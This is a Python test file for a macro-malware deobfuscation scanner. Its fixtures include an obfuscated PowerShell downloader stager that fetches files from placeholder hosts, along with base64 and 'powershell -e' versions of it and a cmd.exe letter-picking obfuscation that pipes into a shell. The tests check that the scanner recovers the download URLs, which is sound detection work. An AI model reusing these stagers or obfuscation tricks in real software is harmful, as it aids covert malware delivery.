"""Guesses where nothing was evaluated: tokens taken out, literals joined, letters picked."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st
from linear import assert_linear

from emoscan.budget import Budget, Limits
from emoscan.context import Context, Settings
from emoscan.decode.concat import join_literals
from emoscan.decode.tokens import learn, undo_token_splitting
from emoscan.engine import expand
from emoscan.model import Artifact, Child, Fact
from emoscan.parse.bundle import Control, Document, Form, Module, VbaProject, dump
from emoscan.registry import discover
from emoscan.report import _iocs

discover()

STAGER = (
    "$abc='xyz';$def=.('new-ob'+'ject') net.w`ebcl`ient;$u='http://a.example.test/wp/x1/@http://b.example.test/y2/@"
    'https://c.example.test/z3/\'."s`PliT"(\'@\');foreach($i in $u){try{$def."doWn`loadF`iLe"($i,$p);break}catch{}}'
)
URLS = ["http://a.example.test/wp/x1/", "http://b.example.test/y2/", "https://c.example.test/z3/"]
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode()


def run(step, text, kind):
    data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    return list(step(Artifact(kind, data), Context(Budget(Limits()))))


def texts(items):
    return [c.data.decode() for c in items if isinstance(c, Child)]


def seeded(text, token, every):
    return "".join(text[i : i + every] + token for i in range(0, len(text), every))


# ---------------------------------------------------------------- tokens


@pytest.mark.parametrize("token", ["qwuhd", "=mmuusns=", "~#q~", "23427 72g3&*gs77 12ff", "]a(b["])
@pytest.mark.parametrize("every", [1, 2, 3])
def test_token_in_the_text_of_a_control(token, every):
    controls = (
        Control("a", "TextBox", {"Value": "Investor"}),
        Control("b", "TextBox", {"Value": seeded(ENCODED, token, every)}),
        Control("c", "TextBox", {"Value": seeded("winmgmts:Win32_ProcessStartup", token, 3)}),
    )
    items = run(undo_token_splitting, dump(VbaProject((Module("M", "x = 1"),), document=Document(controls=controls))), "script.vba-project")
    assert texts(items) == [ENCODED]
    found = [f for f in items if isinstance(f, Fact)]
    assert {(f.kind, f.value, f.confidence) for f in found} == {("obfuscation.token_split", token, 0.5)}
    assert "winmgmts:Win32_ProcessStartup" in [f.detail["text"] for f in found]


def test_a_token_the_code_names():
    command = f"powershell -e {ENCODED}"
    source = f'x = Replace("{seeded(command, "zq!", 40)}", "zq!", "")\r\n'
    items = run(undo_token_splitting, source, "script.vba")
    assert texts(items) == [command]
    assert [c.how for c in items if isinstance(c, Child)] == ["token 'zq!' taken out"]


@pytest.mark.parametrize(
    "text",
    [
        "the cat and the dog and the bird and the fish " * 40,
        "AAAABBBBCCCC" * 60,
        "0, 0, 0, 0, 0, 0, 0, 0, " * 40,
        '<tr><td class="a">1</td></tr>' * 60,
        ENCODED,
        "Select * From [Table] Where " + " Or ".join(f"[Name{i}] = 'x'" for i in range(60)),
    ],
)
def test_repetition_alone_is_no_token(text):
    project = VbaProject((), document=Document(controls=(Control("a", "TextBox", {"Value": text}),)))
    assert texts(run(undo_token_splitting, dump(project), "script.vba-project")) == []


@given(st.text(alphabet="abcdefghijklmnop#!~&*[]", min_size=3, max_size=12), st.integers(1, 4))
def test_tokens_are_learned(token, every):
    if len(set(token)) == len(token):  # no piece of it repeats inside
        assert token in learn(seeded(ENCODED, token, every))


# ---------------------------------------------------------------- the whole chain


def chain(project):
    graph = expand(dump(project), "", Settings(limits=Limits(seconds=30)))
    hows = {edge.how for edge in graph.edges}
    return [i.value for i in _iocs(graph) if i.type == "url" and i.role == "download"], hows


@pytest.mark.parametrize("token", ["qwuhd", "=mmuusns="])
def test_from_the_text_of_a_form_to_the_list_of_urls(token):
    """Text box with a marker token → base64 → PowerShell with ticks and pieces → Split('@')."""
    forms = (Form("UserForm1", {}, (Control("Page1", "Page", {"ControlTipText": seeded(ENCODED, token, 2)}),)),)
    urls, hows = chain(VbaProject((Module("M", "Sub Other()\r\nEnd Sub\r\n"),), document=Document(forms=forms)))
    assert urls == URLS
    assert {f"token {token!r} taken out of control Page1.ControlTipText", "base64", "simplified"} <= hows


def test_from_a_command_that_picks_letters_to_the_list_of_urls():
    line = f"powershell {STAGER}".replace('"', "'")  # a quote in the alphabet would hide the operators behind it from cmd.exe
    alphabet = "".join(sorted(set(line), key=lambda c: (ord(c) * 7) % 127))
    numbers = " , ".join(str(alphabet.index(c)) for c in line)
    command = f'cmd /V:O /c "SeT pEk={alphabet}&&  foR %9 IN ( {numbers} , 99 )DO Set 4D=!4D!!pEk:~  %9,   1!&&If %9 gEQ 82 ECho !4D:*4D!=! | cmd"'
    controls = (Control("TextBox1", "TextBox", {"Value": command}),)
    urls, hows = chain(VbaProject((), document=Document(controls=controls)))
    assert urls == URLS
    assert "what is piped into PowerShell" in hows or "argument of powershell" in hows


# ---------------------------------------------------------------- literals


@pytest.mark.parametrize(
    ("kind", "text", "shown"),
    [
        ("script.vba", 'x = "po" & "wer" & "shell -c exit"', "powershell -c exit"),
        ("script.vbs", 'x = Chr(104) & Chr(116) & "tp://a.ex" & "ample.test/x"', "http://a.example.test/x"),
        ("script.js", "var x='WScr'+'ipt.Sh'+'ell';", "WScript.Shell"),
    ],
)
def test_joined_literals(kind, text, shown):
    (joined,) = texts(run(join_literals, text, kind))
    assert shown in joined


def test_lines_that_append():
    lines = ['s = ""'] + [f's = s & "{ENCODED[i : i + 50]}"' for i in range(0, len(ENCODED), 50)]
    assert ENCODED in texts(run(join_literals, "\r\n".join(lines), "script.vba"))
    lines = ["var s = '';"] + [f"s += '{ENCODED[i : i + 50]}';" for i in range(0, len(ENCODED), 50)]
    assert ENCODED in texts(run(join_literals, "\n".join(lines), "script.js"))


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("script.vba", 'MsgBox "Hello " & "world" & vbCrLf & "How are you?"'),
        ("script.vba", 's = "Select *"\ns = s & " From Table"\ns = s & " Where x = 1"'),
        ("script.js", "var s = 'Good ' + 'morning, ' + name;"),
        ("script.powershell", "Write-Host ('a' + 'b')"),
    ],
)
def test_ordinary_literals_show_nothing(kind, text):
    assert run(join_literals, text, kind) == []


# ---------------------------------------------------------------- hostile input

STEPS = [
    (undo_token_splitting, "script.vba"),
    (undo_token_splitting, "script.vba-project"),
    (join_literals, "script.vba"),
    (join_literals, "script.powershell"),
]


@given(st.text(max_size=300), st.sampled_from(STEPS))
def test_any_text(text, step):
    run(step[0], text, step[1])


@pytest.mark.parametrize(("step", "kind"), STEPS, ids=[f"{s.__name__}-{k}" for s, k in STEPS])
@pytest.mark.parametrize(
    "unit",
    [
        "'a'+",
        "('a')",
        "(",
        "'a' -f 'b' ",
        "[char]65+",
        "`a",
        "'a'.replace('a','aa')",
        '"a" & ',
        'x = x & "a"\n',
        '"abcabc',
        "set a=b&for %a in (1,2)",
        "!a:~%a,1!",
        "\1\2",
    ],
)
def test_linear_on_floods(step, kind, unit):
    assert_linear(lambda text: run(step, text, kind), unit, 15_000)
